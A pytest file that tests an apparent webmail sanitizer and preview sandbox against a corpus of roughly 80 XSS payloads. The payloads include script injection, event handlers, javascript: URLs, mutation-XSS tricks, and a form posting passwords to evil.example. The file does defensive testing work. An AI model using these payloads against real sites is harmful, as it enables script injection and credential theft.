"""A corpus of XSS payloads in HTML mail. At every filter level the output, parsed as a browser
parses it (html5lib, the HTML5 parsing algorithm), holds nothing active; with the filter off,
the preview page's sandbox and CSP are what keep the payloads inert."""

from __future__ import annotations

import re
from email.message import EmailMessage
from html.parser import HTMLParser
from xml.etree.ElementTree import Element

import pytest
from bleach._vendor import html5lib
from flask.testing import FlaskClient

from conftest import Mailbox
from mxsmtp_web.mail.sanitize import LEVELS, sanitize_html
from mxsmtp_web.web.preview import html_document

PAYLOADS: dict[str, str] = {
    # script elements, in all their spellings
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-attr-slash": "<script/xss src=//evil.example/x.js></script>",
    "script-unclosed": "<script>alert(1)",
    "script-nested-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-in-attribute-quote": '<p title="x"><script>alert(1)</script></p>',
    # event handlers
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-slashes": '<img/src="x"/onerror=alert(1)>',
    "body-onload": "<body onload=alert(1)>text</body>",
    "div-onmouseover": "<div onmouseover='alert(1)'>hover</div>",
    "a-onclick": '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "marquee-onstart": "<marquee onstart=alert(1)>m</marquee>",
    "handler-with-newline": '<img src=x\nonerror\n=\n"alert(1)">',
    "handler-uppercase": "<IMG SRC=x ONERROR=alert(1)>",
    # URL schemes
    "javascript-href": '<a href="javascript:alert(1)">x</a>',
    "javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript-entity": '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    "javascript-hex-entity": '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    "javascript-no-semicolon-entities": '<a href="&#106&#97&#118&#97script:alert(1)">x</a>',
    "javascript-tab": '<a href="jav\tascript:alert(1)">x</a>',
    "javascript-newline": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "javascript-leading-space": '<a href=" \x01javascript:alert(1)">x</a>',
    "javascript-img-src": '<img src="javascript:alert(1)">',
    "vbscript-href": '<a href="vbscript:msgbox(1)">x</a>',
    "data-html-href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data-svg-img": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "data-html-img": '<img src="data:text/html,<script>alert(1)</script>">',
    "area-href": '<map><area href="javascript:alert(1)"></map>',
    "background-attribute": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "lowsrc-dynsrc": '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(2)">',
    "formaction": '<button formaction="javascript:alert(1)">b</button>',
    "xlink-href-a": '<a xlink:href="javascript:alert(1)">x</a>',
    # SVG and MathML
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate-href": "<svg><a><animate attributeName=href values=javascript:alert(1) />"
    "<text y=20>click</text></a></svg>",
    "svg-foreignobject": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>"
    "</iframe></foreignObject></svg>",
    "svg-use-data": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "math-xlink": '<math><mtext><a xlink:href="javascript:alert(1)">m</a></mtext></math>',
    "math-maction": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
    "x</maction></math>",
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # CSS
    "style-element-import": "<style>@import 'https://evil.example/x.css';</style><p>t</p>",
    "style-element-js-url": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-attr-expression": '<div style="width: expression(alert(1))">x</div>',
    "style-attr-js-url": '<div style="background-image: url(javascript:alert(1))">x</div>',
    "style-attr-escaped-url": '<div style="background: u\\72 l(javascript:alert(1))">x</div>',
    "style-attr-behavior": '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">x</div>',
    "style-attr-comment-split": '<div style="width: expr/**/ession(alert(1))">x</div>',
    "style-attr-entity": '<div style="background:&#117;rl(javascript:alert(1))">x</div>',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    # documents, frames, navigation
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta-refresh-data": '<meta http-equiv="refresh" content="0;url=data:text/html,'
    '<script>alert(1)</script>">',
    "base-href": '<base href="javascript:alert(1)//"><a href="x">relative</a>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-src": '<iframe src="javascript:alert(1)"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-src": '<embed src="data:text/html,<script>alert(1)</script>">',
    "applet": '<applet code="x.class"></applet>',
    "form-action": '<form action="javascript:alert(1)"><input type=submit></form>',
    "form-hijack": '<form action="https://evil.example/steal"><input name=password></form>',
    "portal": '<portal src="https://evil.example/"></portal>',
    # namespace confusion and mutation XSS
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template-content": "<template><img src=x onerror=alert(1)></template>",
    "textarea-breakout": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "title-breakout": "<title><img src=x onerror=alert(1)></title>",
    "comment-breakout": "<!--><img src=x onerror=alert(1)>-->",
    "comment-bang": "<!--!><img src=x onerror=alert(1)>-->",
    "cdata-in-html": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "conditional-comment": "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "svg-style-mxss": '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "math-style-mxss": "<math><style><img src=x onerror=alert(1)></style></math>",
    "form-nesting": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src=x onerror=alert(1)>",
    "select-style": "<select><style><img src=x onerror=alert(1)></style></select>",
    "xmp-plaintext": "<xmp><img src=x onerror=alert(1)></xmp>",
    "noembed": "<noembed><img src=x onerror=alert(1)></noembed>",
    "attribute-backtick": "<img src=`x`onerror=alert(1)>",
    "null-byte-tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "utf7-meta": '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
}

DANGEROUS_ELEMENTS = frozenset(
    {
        *("script", "style", "iframe", "frame", "frameset", "object", "embed", "applet"),
        *("svg", "math", "form", "meta", "base", "link", "template", "noscript", "input"),
        *("button", "textarea", "select", "image", "portal", "video", "audio", "source"),
        *("details", "marquee", "map", "area", "xmp", "noembed", "title", "head"),
    }
)
#: Attributes a browser follows as a URL, or treats as a document.
URL_ATTRIBUTES = frozenset(
    {
        *("href", "src", "action", "formaction", "data", "background", "lowsrc", "dynsrc"),
        *("poster", "ping", "xlink:href", "codebase", "cite", "longdesc", "usemap", "srcset"),
    }
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto", "cid"})
SAFE_DATA_IMAGE = re.compile(r"^data:image/(png|gif|jpeg|jpg|webp);base64,[a-z0-9+/=]*$")
HTML_NAMESPACE = "{http://www.w3.org/1999/xhtml}"


def parse_like_a_browser(html: str) -> Element:
    """The fragment as the HTML5 parsing algorithm builds it inside a <body>."""
    return html5lib.parseFragment(html, container="body", treebuilder="etree")


def scheme(url: str) -> str | None:
    """The scheme a browser would see: it drops ASCII tab and newline anywhere and leading
    C0 controls and spaces (WHATWG URL parsing)."""
    cleaned = re.sub(r"[\t\n\r]", "", url).lstrip("".join(map(chr, range(0x21)))).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", cleaned)
    return match.group(1) if match else None


def active_parts(html: str) -> list[str]:
    """Everything in the fragment `html` that could run, load or navigate, in words; [] when
    inert."""
    return active_elements(parse_like_a_browser(html))


def active_in_preview(html: str) -> list[str]:
    """The same for the body of the preview document built around `html`."""
    document = html5lib.parse(html_document(html), treebuilder="etree")
    [body] = document.iter(f"{HTML_NAMESPACE}body")
    return active_elements(body, container=body)


def active_elements(root: Element, container: Element | None = None) -> list[str]:
    """What `active_parts` finds under `root`; `container` (the preview's own <body>) is
    allowed as an element, but not its attributes, which a mail's <body> merges into."""
    found = []
    for element in root.iter():
        if not isinstance(element.tag, str):  # comments
            found.append(f"comment {element.text!r}")
            continue
        namespace, _, name = element.tag.rpartition("}")
        if namespace and namespace + "}" != HTML_NAMESPACE:
            found.append(f"foreign element {element.tag}")
        if name.lower() in DANGEROUS_ELEMENTS and element is not container:
            found.append(f"element <{name}>")
        for attribute, value in element.attrib.items():
            found.extend(active_attribute(name, attribute.rpartition("}")[2].lower(), value))
    return found


def active_attribute(element: str, attribute: str, value: str) -> list[str]:
    where = f"<{element} {attribute}={value!r}>"
    if attribute.startswith("on") or attribute in {"srcdoc", "http-equiv", "formaction"}:
        return [where]
    if attribute == "style":
        lowered = re.sub(r"\\|/\*.*?\*/|\s", "", value.lower())
        if any(word in lowered for word in ("expression", "url(", "javascript", "behavior")):
            return [where]
        if any(word in lowered for word in ("-moz-binding", "@import", "image-set")):
            return [where]
        return []
    if attribute in URL_ATTRIBUTES:
        kind = scheme(value)
        if kind is None or kind in SAFE_SCHEMES:
            return []
        if kind == "data" and element == "img" and attribute == "src":
            return [] if SAFE_DATA_IMAGE.match(value.strip().lower()) else [where]
        return [where]
    return []


def test_the_corpus_is_big_enough_and_its_checker_sees_every_payload() -> None:
    assert len(PAYLOADS) >= 50
    # Payloads for old browsers and parsers that an HTML5 parser reads as inert text or
    # drops by itself; the rest must trip the checker, or the checker proves nothing.
    inert_in_html5 = {
        *("form-hijack", "utf7-meta", "cdata-in-html", "null-byte-tag", "script-nested-split"),
        *("frameset", "attribute-backtick"),
    }
    for name, payload in PAYLOADS.items():
        if name not in inert_in_html5 and "mxss" not in name:
            assert active_parts(payload) or active_in_preview(payload), name


@pytest.mark.parametrize("level", list(LEVELS))
@pytest.mark.parametrize("name", list(PAYLOADS))
def test_nothing_active_survives_any_level(name: str, level: str) -> None:
    cleaned = sanitize_html(PAYLOADS[name], level)
    assert active_parts(cleaned) == []
    # Shown as the preview shows it, in a document of its own, and sanitised once more (as a
    # reprocess would): still inert, so no re-parse turns the output into markup.
    assert active_in_preview(cleaned) == []
    assert active_parts(sanitize_html(cleaned, level)) == []
    if level == "strict":
        elements = [e for e in parse_like_a_browser(cleaned).iter() if isinstance(e.tag, str)]
        assert len(elements) == 1  # only the fragment's own container: text, no markup


@pytest.mark.parametrize("level", list(LEVELS))
def test_the_whole_corpus_in_one_document_stays_inert(level: str) -> None:
    document = "<html><body>" + "\n".join(PAYLOADS.values()) + "</body></html>"
    assert active_parts(sanitize_html(document, level)) == []


class _Frames(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.frames: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "iframe":
            self.frames.append(dict(attrs))


def csp_directives(header: str) -> dict[str, list[str]]:
    directives = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            directives[words[0].lower()] = words[1:]
    return directives


def html_mail(subject: str, html: str) -> bytes:
    message = EmailMessage()
    message["From"] = "attacker@sender.example"
    message["To"] = "bob@example.com"
    message["Subject"] = subject
    message.set_content("see the HTML part")
    message.add_alternative(html, subtype="html")
    return message.as_bytes()


def test_with_the_filter_off_the_preview_keeps_its_sandbox_and_csp(
    mailbox: Mailbox, admin_client: FlaskClient, engine: str
) -> None:
    mailbox.configure(xss_filter=False)
    for name, payload in PAYLOADS.items():
        assert mailbox.send(html_mail(name, payload)) == {}
    stored = {summary.subject: summary.id for summary in mailbox.messages()}
    assert set(stored) == set(PAYLOADS)
    for name, message_id in stored.items():
        stored_as = PAYLOADS[name].strip()
        if engine == "postgresql":  # its text holds no NUL: U+FFFD instead
            stored_as = stored_as.replace("\x00", "\ufffd")
        assert mailbox.message(message_id).html.strip() == stored_as, name
        for remote in ("", "?remote=1"):
            response = admin_client.get(f"/inbox/message/{message_id}/preview{remote}")
            assert response.status_code == 200
            csp = csp_directives(response.headers["Content-Security-Policy"])
            assert csp["sandbox"] == []  # no allow-scripts, no allow-same-origin, nothing
            assert csp["default-src"] == ["'none'"] and "script-src" not in csp
            assert csp["form-action"] == ["'none'"] and csp["base-uri"] == ["'none'"]
            assert "object-src" not in csp  # falls back to default-src 'none'
        page = admin_client.get(f"/inbox/message/{message_id}?tab=preview")
        frames = _Frames()
        frames.feed(page.get_data(as_text=True))
        frames.close()
        [frame] = frames.frames
        assert frame["sandbox"] == "" and frame["src"].startswith(
            f"/inbox/message/{message_id}/preview"
        )
        assert "frame-ancestors 'none'" in page.headers["Content-Security-Policy"]
